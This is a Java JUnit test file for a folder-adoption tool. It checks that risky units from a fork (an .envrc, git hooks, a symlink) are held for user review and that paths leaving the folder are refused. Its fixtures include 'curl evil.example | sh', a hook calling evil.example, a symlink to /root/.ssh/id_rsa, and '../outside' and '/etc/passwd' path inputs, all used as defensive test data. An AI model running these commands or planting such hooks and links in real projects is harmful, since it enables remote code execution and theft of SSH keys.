package dev.kosa8.workspace;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code kosa8 adopt}'s writes into the target folder: what the target's held policy covers goes to its held
 * layer (the folder keeps its version until the user accepts), everything else into the folder; a dry run
 * changes nothing; a path that would leave the folder is refused. The plan's order and conflicts are
 * {@code checkpoint.AdoptPropertyTest}'s.
 */
class FolderAdopterTest {
    @TempDir
    Path tmp;
    Path fork;
    Path target;
    HeldChanges held;

    @BeforeEach
    void folders() throws Exception {
        fork = Files.createDirectory(tmp.resolve("fork"));
        target = Files.createDirectory(tmp.resolve("target"));
        for (Path f : List.of(fork, target)) {
            Files.createDirectories(f.resolve(".git/hooks"));
            Files.writeString(f.resolve(".envrc"), "export A=1\n");
            Files.writeString(f.resolve("README"), "hello\n");
        }
        Files.writeString(fork.resolve(".envrc"), "curl evil.example | sh\n");
        Files.writeString(fork.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil.example\n");
        Files.createSymbolicLink(fork.resolve("key"), Path.of("/root/.ssh/id_rsa"));
        Files.createSymbolicLink(fork.resolve("docs-link"), Path.of("README"));
        Files.writeString(fork.resolve("README"), "hello, adopted\n");
        Files.createDirectories(fork.resolve("src/new"));
        Files.writeString(fork.resolve("src/new/Main.java"), "class Main {}\n");
        Files.setPosixFilePermissions(fork.resolve("src/new/Main.java"), PosixFilePermissions.fromString("rwxr-x---"));
        held = HeldChanges.open(tmp.resolve("held"), null, m -> { });
    }

    @AfterEach
    void close() {
        held.close();
    }

    static final List<FolderAdopter.Step> STEPS = List.of(
            new FolderAdopter.Step(".envrc", FolderAdopter.Op.PLACE, 0644),
            new FolderAdopter.Step(".git/hooks/pre-commit", FolderAdopter.Op.PLACE, 0755),
            new FolderAdopter.Step("README", FolderAdopter.Op.PLACE, 0644),
            new FolderAdopter.Step("docs-link", FolderAdopter.Op.PLACE, 0777),
            new FolderAdopter.Step("key", FolderAdopter.Op.PLACE, 0777),
            new FolderAdopter.Step("src", FolderAdopter.Op.MKDIR, 0755),
            new FolderAdopter.Step("src/new", FolderAdopter.Op.MKDIR, 0750),
            new FolderAdopter.Step("src/new/Main.java", FolderAdopter.Op.PLACE, 0750));

    @Test
    void whatHostToolsRunOrFollowIsHeldForReviewAndTheRestIsWritten() throws Exception {
        FolderAdopter.Outcome o = FolderAdopter.apply(fork, target, STEPS, held, false);

        assertThat(o.applied()).containsExactly("README", "docs-link", "src", "src/new", "src/new/Main.java");
        assertThat(o.held()).containsExactly(".envrc", ".git/hooks", "key");
        assertThat(o.skipped()).isEmpty();
        assertThat(Files.readString(target.resolve("README"))).isEqualTo("hello, adopted\n");
        assertThat(Files.readSymbolicLink(target.resolve("docs-link"))).isEqualTo(Path.of("README"));
        assertThat(Files.readString(target.resolve("src/new/Main.java"))).isEqualTo("class Main {}\n");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(target.resolve("src/new/Main.java"))))
                .isEqualTo("rwxr-x---");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(target.resolve("src/new"))))
                .isEqualTo("rwxr-x---");
        // the folder keeps its own versions of what is held
        assertThat(Files.readString(target.resolve(".envrc"))).isEqualTo("export A=1\n");
        assertThat(target.resolve(".git/hooks/pre-commit")).doesNotExist();
        assertThat(Files.exists(target.resolve("key"), LinkOption.NOFOLLOW_LINKS)).isFalse();
        // and review shows each held unit as the fork has it, to accept or reject
        List<HeldChanges.Entry> review = held.review(target, true);
        assertThat(review).extracting(e -> e.unit().path()).containsExactly(".envrc", ".git/hooks", "key");
        assertThat(review).allMatch(e -> !e.conflict());
        assertThat(review.get(0).diff()).contains("+curl evil.example | sh");
        held.accept(target, List.of(".envrc"), false);
        assertThat(Files.readString(target.resolve(".envrc"))).isEqualTo("curl evil.example | sh\n");
        assertThat(Files.readString(tmp.resolve("fork/.envrc"))).as("the fork untouched")
                .isEqualTo("curl evil.example | sh\n");
    }

    /**
     * What an adoption puts in the held layer changes what the target's guest sees at those paths, which no
     * watch of the folder sees: the held layer tells its listener (a caching guest's server), and tells
     * nothing of a dry run.
     */
    @Test
    void whatAnAdoptionHoldsIsToldToTheTargetsServer() throws Exception {
        List<List<String>> told = new java.util.concurrent.CopyOnWriteArrayList<>();
        held.tellChanges(told::add);
        FolderAdopter.apply(fork, target, STEPS, held, true);
        assertThat(told).as("a dry run changes nothing").isEmpty();
        FolderAdopter.apply(fork, target, STEPS, held, false);
        assertThat(told).containsExactly(List.of(".envrc", ".git/hooks/pre-commit", "key"));
    }

    @Test
    void aUnitTheTargetsGuestChangedItselfIsNotReplacedByTheForks() throws Exception {
        int root = LinuxFs.openRoot(target.toString());
        try {
            held.hold(root, ".envrc", "direnv"); // the target's guest wrote .envrc: held, its version in the tree
        } finally {
            LinuxFs.close(root);
        }
        Files.writeString(tmp.resolve("held/tree/.envrc"), "the target's own\n");

        FolderAdopter.Outcome o = FolderAdopter.apply(fork, target, STEPS, held, false);

        assertThat(o.skipped()).containsExactly(".envrc: the target already holds a change at .envrc (its guest's,"
                + " or an earlier adopt's); review that first (kosa8 review)");
        assertThat(tmp.resolve("held/tree/.envrc")).hasContent("the target's own");
        assertThat(o.held()).containsExactly(".git/hooks", "key");
    }

    @Test
    void aDryRunSaysTheSameAndChangesNothing() throws Exception {
        FolderAdopter.Outcome dry = FolderAdopter.apply(fork, target, STEPS, held, true);

        assertThat(dry.applied()).containsExactly("README", "docs-link", "src", "src/new", "src/new/Main.java");
        assertThat(dry.held()).containsExactly(".envrc", ".git/hooks", "key");
        assertThat(held.units()).isEmpty();
        assertThat(Files.readString(target.resolve("README"))).isEqualTo("hello\n");
        assertThat(target.resolve("src")).doesNotExist();
    }

    @Test
    void withoutAHeldLayerEverythingIsWrittenAndAPathOutOfTheFolderIsRefused() throws Exception {
        Files.writeString(tmp.resolve("outside"), "the user's file\n");
        FolderAdopter.Outcome o = FolderAdopter.apply(fork, target, List.of(
                new FolderAdopter.Step("README", FolderAdopter.Op.PLACE, 0644),
                new FolderAdopter.Step("../outside", FolderAdopter.Op.REMOVE, 0),
                new FolderAdopter.Step("/etc/passwd", FolderAdopter.Op.PLACE, 0644),
                new FolderAdopter.Step("gone", FolderAdopter.Op.PLACE, 0644)), null, false);

        assertThat(o.applied()).containsExactly("README");
        assertThat(o.skipped()).containsExactly("../outside: not a path inside the folder",
                "/etc/passwd: not a path inside the folder",
                "gone: changed in the source while adopting (no longer a file or symlink)");
        assertThat(tmp.resolve("outside")).hasContent("the user's file");
    }

    @Test
    void aFileIsPutInPlaceOfADirectoryAndADirectoryInPlaceOfAFile() throws Exception {
        Files.createDirectories(target.resolve("was-dir"));
        Files.writeString(target.resolve("was-file"), "x\n");
        Files.writeString(fork.resolve("was-dir"), "now a file\n");
        Files.createDirectories(fork.resolve("was-file"));
        FolderAdopter.Outcome o = FolderAdopter.apply(fork, target, List.of(
                new FolderAdopter.Step("was-dir", FolderAdopter.Op.PLACE, 0644),
                new FolderAdopter.Step("was-file", FolderAdopter.Op.MKDIR, 0700)), null, false);

        assertThat(o.skipped()).isEmpty();
        assertThat(target.resolve("was-dir")).hasContent("now a file");
        assertThat(target.resolve("was-file")).isDirectory();
        try (var left = Files.list(target)) {
            assertThat(left.map(p -> p.getFileName().toString())).noneMatch(n -> n.startsWith(".kosa8-adopt-"));
        }
    }
}
